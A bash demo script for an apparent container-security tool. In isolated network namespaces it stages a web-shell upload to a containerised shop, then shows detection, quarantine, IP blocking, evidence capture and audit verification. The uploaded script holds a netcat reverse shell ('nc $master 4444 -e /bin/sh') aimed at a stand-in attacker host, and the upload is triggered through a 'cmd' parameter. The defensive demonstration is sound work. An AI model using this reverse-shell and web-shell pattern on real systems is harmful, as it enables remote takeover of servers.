#!/usr/bin/env bash
# Shows one attack over a network, from the upload of a web shell to the audit trail: `make demo`, as root.
# The shop (deploy/demo/shop) runs in a container of a dockerd of its own in a network namespace; the attacker is in another one, connected by
# a veth pair. It changes nothing of the machine's own network and Docker, and removes everything it created.
# DEMO_PAUSE=0 does not wait between the steps.
set -euo pipefail

root=$(cd "$(dirname "$0")/../.." && pwd)
bin=$root/bin
for program in dockerd docker ip nsenter busybox; do
  command -v "$program" >/dev/null || { echo "demo: $program is missing: make deps installs what is needed" >&2; exit 1; }
done
[ "$(id -u)" = 0 ] || { echo "demo: run this as root: it makes network namespaces and attaches the packet engine to them" >&2; exit 1; }

work=$(mktemp -d /tmp/ironpost-demo-XXXXXX)
host=ironpost-demo-host-$$ outside=ironpost-demo-outside-$$
shop=203.0.113.10:80 gateway=203.0.113.1 attacker=203.0.113.66 master=203.0.113.99 # TEST-NET-3, RFC 5737: reserved for documentation
pause=${DEMO_PAUSE:-2}
daemon='' engine='' listener=''

finish() {
  code=$?
  trap - EXIT INT TERM
  [ "$code" = 0 ] || for log in dockerd daemon; do # before they are removed
    [ ! -s "$work/$log.log" ] || { echo; echo "The end of the log of $log:"; tail -n 20 "$work/$log.log"; } >&2
  done
  [ -z "$listener" ] || kill "$listener" 2>/dev/null || true
  [ -z "$daemon" ] || { kill "$daemon" && wait "$daemon"; } 2>/dev/null || true
  docker rm -f shop >/dev/null 2>&1 || true
  [ -z "$engine" ] || { kill "$engine" && wait "$engine"; } 2>/dev/null || true
  umount "$work/pins" 2>/dev/null || true
  ip netns del "$host" 2>/dev/null || true
  ip netns del "$outside" 2>/dev/null || true
  rm -rf "$work"
  exit "$code"
}
trap finish EXIT INT TERM

step() { printf '\n\033[1m%s\033[0m\n' "$*"; sleep "$pause"; }
show() { printf '$ %s\n' "$*"; "$@"; }
until_true() { # a command, tried for 30 s
  for _ in $(seq 300); do "$@" >/dev/null 2>&1 && return; sleep 0.1; done
  echo "demo: timed out waiting for: $*" >&2
  return 1
}
in_host=(nsenter --net="/var/run/netns/$host") in_outside=(nsenter --net="/var/run/netns/$outside")
on_host() { "${in_host[@]}" "$@"; }
from_outside() { "${in_outside[@]}" "$@"; }
request() { # method, path, body; sent from $attacker. Prints the body of the answer.
  from_outside timeout 3 bash -c 'exec 3<>"/dev/tcp/$0" && printf "%s %s HTTP/1.0\r\nContent-Length: %d\r\n\r\n%s" "$1" "$2" "${#3}" "$3" >&3 && sed "1,/^\r$/d" <&3' \
    "${shop/://}" "$1" "$2" "${3:-}" 2>/dev/null
}

ip netns add "$host"
ip netns add "$outside"
ip link add wan netns "$host" type veth peer name wire netns "$outside"
from_outside ip link set lo up
from_outside ip link set wire up
for address in "$attacker" "$gateway" "$master"; do from_outside ip addr add "$address/24" dev wire; done
on_host ip link set lo up
on_host ip link set wan up
on_host ip addr add "${shop%:*}/24" dev wan
on_host ip route add default via "$gateway"

export DOCKER_HOST=unix://$work/docker.sock
"${in_host[@]}" dockerd --host "$DOCKER_HOST" --data-root "$work/docker" --exec-root "$work/exec" --pidfile "$work/docker.pid" >"$work/dockerd.log" 2>&1 &
engine=$!
engine_answers() { docker info || ! kill -0 "$engine"; } # or has ended, which its log explains
until_true engine_answers
docker info >/dev/null || { echo "demo: dockerd does not run in the network namespace $host; its log follows" >&2; exit 1; }

mkdir -p "$work/image/bin"
(cd "$root" && CGO_ENABLED=0 go build -o "$work/image/bin/shop" ./deploy/demo/shop)
cp "$(command -v busybox)" "$work/image/bin/busybox"
for applet in sh id nc; do ln -s busybox "$work/image/bin/$applet"; done
tar -C "$work/image" -c . | docker import - shop >/dev/null

# The checkout may belong to another user than root, who runs this.
export IRONPOST_GENERAL_STRICT_MODES=false
export IRONPOST_CONFIG=$root/deploy/demo/ironpost.toml IRONPOST_GENERAL_DATA_DIR=$work/data IRONPOST_GENERAL_PID_FILE=$work/pid \
  IRONPOST_BUS_SOCKET=$work/bus.sock IRONPOST_CONTAINER_DOCKER_SOCKET=$work/docker.sock IRONPOST_CONTAINER_POLICY_PATH=$root/deploy/policies \
  IRONPOST_EBPF_PIN_PATH=$work/pins
"${in_host[@]}" "$bin/ironpost-daemon" >"$work/daemon.log" 2>&1 &
daemon=$!
PATH=$bin:$PATH
until_true ironpost quarantine list

step "A web shop runs in a container. Visitors open it over the network."
docker run -d --name shop --restart always -p "$shop:80" shop /bin/shop >/dev/null
known() { ironpost status --json | grep -q '"containers":[1-9]'; }
until_true known
opened() { request GET / | grep -q shop; }
until_true opened
show docker logs --tail 1 shop

step "An attacker at $attacker uploads a script. The shop stores what it gets."
cat >"$work/x.php" <<END
nc $master 4444 -e /bin/sh </dev/null >/dev/null 2>&1 &
\$1
END
cat "$work/x.php"
request POST "/upload?name=x.php" "$(cat "$work/x.php")"

step "The attacker requests it. The shop executes it, answers, and the script connects to the attacker's other machine, $master."
mkfifo "$work/orders" # what the attacker would type; held open, so that the connection is
"${in_outside[@]}" busybox nc -l -p 4444 <>"$work/orders" >"$work/master.log" 2>&1 &
listener=$!
began=$(date +%s%N)
request GET "/uploads/x.php?cmd=id"
held() { ironpost quarantine list | grep -q ' held '; }
until_true held
printf 'The container was isolated within %d ms of the request.\n' "$((($(date +%s%N) - began) / 1000000))"

step "One sign is the request, in the log of the container. Anyone can make such a request: it stops nothing by itself."
show ironpost alerts --severity high
step "The other one is the connection to an address that was new to the shop; the kernel tracked it. With both, the container was frozen and disconnected, by deploy/policies/web-attack.toml."
show ironpost quarantine list
show docker inspect --format '{{.State.Status}}, networks: {{len .NetworkSettings.Networks}}, restart policy: {{.HostConfig.RestartPolicy.Name}}' shop
step "The attacker was connected to the container, so the address is blocked. The packet engine drops what it sends."
refused() { ! request GET / | grep -q shop; }
until_true refused
dropped() { ironpost blocklist list --json | grep -Eq '"packets": ?[1-9]'; }
until_true dropped
show ironpost blocklist list
step "Evidence of what the container was doing was saved."
evidence() { ironpost evidence show shop; }
until_true evidence
show ironpost evidence show shop
show ironpost evidence show shop --file sockets.jsonl
step "Every step is in the audit trail, and the trail can be verified."
show ironpost actions
verified() { ironpost audit verify; }
until_true verified
show ironpost audit verify
step "An operator has looked at the evidence, and releases the container to mend it. The attacker stays blocked."
show ironpost release shop --reason "the upload is mended"
show docker inspect --format '{{.State.Status}}, networks: {{len .NetworkSettings.Networks}}, restart policy: {{.HostConfig.RestartPolicy.Name}}' shop
printf '\nEnd of the demo; everything it created is removed.\n'
